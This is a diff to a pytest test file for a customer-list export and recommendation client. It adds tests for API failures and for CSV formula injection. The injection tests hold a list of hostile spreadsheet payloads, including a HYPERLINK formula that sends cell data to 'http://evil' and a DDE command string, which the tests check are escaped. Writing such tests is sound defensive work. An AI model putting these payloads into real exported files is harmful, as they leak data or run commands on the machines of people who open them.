@@ -8,6 +8,7 @@ import json
 import os
 import random
 import stat
+from collections.abc import Iterable
 from dataclasses import replace
 from pathlib import Path
 from types import SimpleNamespace
@@ -16,6 +17,7 @@ from typing import Any
 import pytest
 import redis
 
+from nearline.client import Unavailable
 from nearline.contracts.answer import Degradation, FeatureReason, LifetimeValue, Score
 from nearline.contracts.event import Event
 from nearline.contracts.position import LogPosition
@@ -349,6 +351,47 @@ def test_a_csv_reads_back_row_by_row(monkeypatch: pytest.MonkeyPatch) -> None:
     assert first["last_seen"] == "2026-11-20T19:00:00Z"
 
 
+HOSTILE = [
+    '=HYPERLINK("http://evil/?"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_cell_of_a_csv_is_a_formula(text: str) -> None:
+    hostile = replace(entry(text, 0.5, -1.0), category=text, item_ids=(text, "i2"))
+    page = output.as_csv(replace(MADE, entries=(hostile,)))
+
+    (row,) = csv.DictReader(io.StringIO(page, newline=""))
+
+    assert row["customer_id"] == row["category"] == f"'{text}"
+    assert row["item_ids"] == f"'{text} i2"
+    assert (row["value_cents"], row["probability"]) == ("-1", "0.5")
+    assert (
+        json.loads(output.as_json(replace(MADE, entries=(hostile,))))["customers"][0]["customer_id"]
+        == text
+    )
+
+
+def test_texts_of_a_csv_stand_in_quotes_so_that_no_separator_begins_a_cell() -> None:
+    page = output.as_csv(replace(MADE, entries=(entry("a;=1+1", 0.5, 7.0),)))
+
+    assert page.splitlines()[1].startswith('"a;=1+1",0.5,14,"",7,4,"')
+
+
+@pytest.mark.parametrize("text", ["+8613800000000", "-5", "+1.5", "a=b", "a-b", "'"])
+def test_what_computes_nothing_stays_as_it_is(text: str) -> None:
+    (row,) = csv.DictReader(io.StringIO(output.as_csv(list_of([text]))))
+
+    assert row["customer_id"] == text
+
+
 def test_json_says_what_it_was_made_from() -> None:
     whole = json.loads(output.as_json(MADE))
 
@@ -388,31 +431,95 @@ def test_a_file_is_its_owner_s_alone_and_whole_or_not_there(
 
 
 class Api:
-    """Answers at once; who is in `capped` gets nothing."""
+    """Answers at once; who is in `empty` gets nothing, which is told so; `failing` an error."""
 
-    def __init__(self, *capped: str) -> None:
-        self.capped, self.asked = capped, list[tuple[str, str, int, str]]()
+    def __init__(
+        self, empty: dict[str, tuple[Degradation, ...]] | None = None, failing: str = ""
+    ) -> None:
+        self.empty, self.failing = empty or {}, failing
+        self.asked = list[tuple[str, str, int, str]]()
 
     def recommend(
         self, customer_id: str, scene: str, k: int, *, channel: str, timeout_s: float
     ) -> Any:
         self.asked.append((customer_id, scene, k, channel))
-        items = (
-            []
-            if customer_id in self.capped
-            else [SimpleNamespace(item_id=f"i{n}") for n in range(k)]
+        if customer_id in self.failing:
+            raise Unavailable("API", "http://there", 10.0, "no connection")
+        if customer_id in self.empty:
+            return SimpleNamespace(items=[], degraded=self.empty[customer_id])
+        return SimpleNamespace(
+            items=[SimpleNamespace(item_id=f"i{n}") for n in range(k)], degraded=()
         )
-        return SimpleNamespace(items=items)
+
+
+def list_of(names: Iterable[str]) -> Made:
+    return replace(MADE, entries=tuple(entry(name, 0.5, None) for name in names), left={})
 
 
 def test_items_are_asked_for_by_channel_and_who_gets_none_leaves_the_list() -> None:
-    api = Api("张三")
+    api = Api({"张三": (Degradation.NOTHING_TO_RECOMMEND,)})
 
     made = contents.with_items(MADE, api, "email", 2, per_second=1e9)
 
     assert api.asked == [("c,1", "email", 2, "email"), ("张三", "email", 2, "email")]
     assert [(one.customer_id, one.item_ids) for one in made.entries] == [("c,1", ("i0", "i1"))]
     assert made.left == {Left.NO_CONSENT: 3, Left.NO_ITEMS: 1}
+
+
+def test_an_empty_answer_is_counted_by_what_it_says() -> None:
+    api = Api(
+        {
+            "a": (Degradation.NOTHING_TO_RECOMMEND,),
+            "b": (Degradation.CAP_UNKNOWN,),
+            "c": (Degradation.CAP_UNKNOWN, Degradation.STALE),
+            "d": (),  # Capped since the list was made.
+        }
+    )
+
+    made = contents.with_items(list_of("abcde"), api, "email", 1, per_second=1e9)
+
+    assert [one.customer_id for one in made.entries] == ["e"]
+    assert made.left == {Left.CAPPED: 1, Left.NO_ITEMS: 1, Left.CAP_UNKNOWN: 2}
+    assert made.unanswered == ()
+
+
+def test_what_was_answered_is_kept_when_a_question_fails_since_its_cap_is_taken() -> None:
+    api = Api(failing="bce")
+
+    made = contents.with_items(list_of("abcdefg"), api, "email", 1, per_second=1e9)
+
+    assert [one.customer_id for one in made.entries] == ["a", "d", "f", "g"]
+    assert all(one.item_ids == ("i0",) for one in made.entries)
+    assert [one.customer_id for one in made.unanswered] == ["b", "c", "e"]
+    assert made.left == {Left.UNANSWERED: 3}
+    (note,) = made.notes
+    assert "no connection" in note.en
+    assert "no connection" in note.zh
+
+
+def test_three_failures_in_a_row_end_the_asking() -> None:
+    api = Api(failing="bde")
+    made = contents.with_items(list_of("abcdecgh"), api, "email", 1, per_second=1e9)
+    assert len(api.asked) == 8
+
+    api = Api(failing="cdefgh")
+    made = contents.with_items(list_of("abcdefgh"), api, "email", 1, per_second=1e9)
+
+    assert [name for name, *_ in api.asked] == list("abcde")
+    assert [one.customer_id for one in made.entries] == ["a", "b"]
+    assert [one.customer_id for one in made.unanswered] == list("cdefgh")
+    assert made.left == {Left.UNANSWERED: 6}
+
+
+@pytest.mark.parametrize("names", ["a", "ab", "abcd"])
+def test_where_nobody_got_an_answer_the_error_is_told(names: str) -> None:
+    with pytest.raises(Unavailable):
+        contents.with_items(list_of(names), Api(failing=names), "email", 1, per_second=1e9)
+
+
+def test_who_got_no_answer_is_written_beside_the_list() -> None:
+    assert output.beside(Path("out/leaving.csv")) == Path("out/leaving.unanswered.csv")
+    assert output.beside(Path("again.v2.json")) == Path("again.v2.unanswered.json")
 
 
 def test_questions_are_no_faster_than_was_said() -> None:
